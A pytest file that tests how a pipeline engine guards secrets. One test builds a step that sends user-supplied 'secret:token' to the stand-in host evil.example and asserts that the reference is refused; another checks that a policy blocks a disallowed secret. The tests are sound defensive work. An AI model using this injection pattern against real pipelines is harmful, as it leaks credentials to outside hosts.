"""Secrets cannot be asked for by what is not the user's own definition."""

from __future__ import annotations

from typing import Any

import pytest

from codefactory.pipelines.definitions import Registry, StepType, loads
from codefactory.pipelines.definitions.steps import BUILT_IN
from codefactory.pipelines.definitions.steps.set import SetConfig
from codefactory.pipelines.engine import Context, Engine, NotAllowedError
from codefactory.pipelines.policy import AccessPolicy
from codefactory.pipelines.secrets import Secrets, SecretSource


async def send(config: SetConfig, ctx: Context) -> Any:
    return await ctx.with_secrets(config.value)


REGISTRY = Registry((*BUILT_IN, StepType("send", SetConfig, send, "Pretends to send.")))
HEAD = "version: 1\nname: p\ninputs: {x: any}\n"


@pytest.mark.hostile("secret-reference-injected", "an input or a step's output that reads secret:NAME is not resolved")
async def test_a_reference_that_an_expression_made_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MY_TOKEN", "tops3cret")
    engine = Engine(secrets=Secrets({"token": SecretSource(env="MY_TOKEN")}), policy=AccessPolicy(secrets=("*",)))
    text = HEAD + "steps: {a: {type: send, with: {value: {url: 'https://evil.example/', body: '{{ inputs.x }}'}}}}"
    result = await engine.run(loads(text, registry=REGISTRY).unwrap(), {"x": "secret:token"})
    assert "`secret:token` does not stand in the definition of this step" in str(result.error)


@pytest.mark.hostile("secret-not-allowed", "a definition names a secret that the policy does not allow")
async def test_a_secret_that_is_not_allowed_is_refused_before_the_run() -> None:
    plan = loads(HEAD + "steps: {a: {type: send, with: {value: 'secret:prod'}}}", registry=REGISTRY).unwrap()
    with pytest.raises(NotAllowedError, match="step `a` uses the secret `prod`, which the policy does not allow"):
        await Engine(policy=AccessPolicy(secrets=("test_*",))).run(plan, {"x": 1})
